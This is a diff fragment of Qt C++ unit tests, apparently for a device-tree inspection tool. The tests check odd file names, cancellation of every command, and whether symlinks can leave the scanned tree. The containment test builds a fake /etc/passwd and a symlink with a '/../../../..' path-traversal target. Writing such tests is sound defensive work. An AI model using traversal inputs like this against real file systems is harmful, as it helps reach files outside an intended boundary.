+        QVERIFY(names.contains(uR"(bytes:caf\xE9.service)"_s));
+        QVERIFY(names.contains(QString(247, u'n') + u".service"_s));
+        const auto saysOf = [&probe](const QString &name) {
+            return std::ranges::any_of(probe.errors, [&](const Error &error) { return error.subject.endsWith(name); });
+        };
+        QVERIFY(saysOf(u"pipe.service"_s));
+        QVERIFY(saysOf(u"folder.service"_s));
+        QVERIFY(saysOf(u"huge.service"_s));
+        QCOMPARE(::unlink(notUtf8.constData()), 0); // QTemporaryDir cannot name it
+    }
+
+    void linksDoNotLeaveTheTree()
+    {
+        DeviceTree tree;
+        tree.write(u"/etc/passwd"_s, "eve:x:1:1::/home/eve:/bin/sh\n");
+        tree.link(u"/home/eve"_s, "/srv/eve");
+        tree.write(u"/srv/eve/.bashrc"_s, "inside\n");
+        tree.link(u"/etc/profile"_s, "/../../../../srv/eve/.bashrc");
+        CommandProbe probe;
+        run(probe, tree, u"persistence"_s);
+        QVERIFY(column(probe, u"path"_s).contains(u"/home/eve/.bashrc"_s));
+        QVERIFY(column(probe, u"path"_s).contains(u"/etc/profile"_s));
+        QVERIFY(!column(probe, u"path"_s).contains(u"/root/.bashrc"_s)); // this machine's own
+    }
+
+    void everyCommandStopsWhenAsked_data() { aDeviceWithoutAnythingHasNotes_data(); }
+    void everyCommandStopsWhenAsked()
+    {
+        QFETCH(QString, line);
+        CommandProbe probe;
+        probe.stop.request_stop();
+        const Outcome outcome = probe.run(line);
+        QVERIFY(outcome.failure);
+        QCOMPARE(outcome.failure->code, ErrorCode::Cancelled);
+    }
+
+private:
+    static void run(CommandProbe &probe, const DeviceTree &tree, const QString &line)
+    {
+        probe.around.root = tree.root();
+        const Outcome outcome = probe.run(line);
+        QVERIFY2(!outcome.failure, outcome.failure ? qPrintable(debugText(*outcome.failure)) : "");
+    }
+};
+
+QTEST_GUILESS_MAIN(ConfigurationTest)
+#include "tst_configuration.moc"
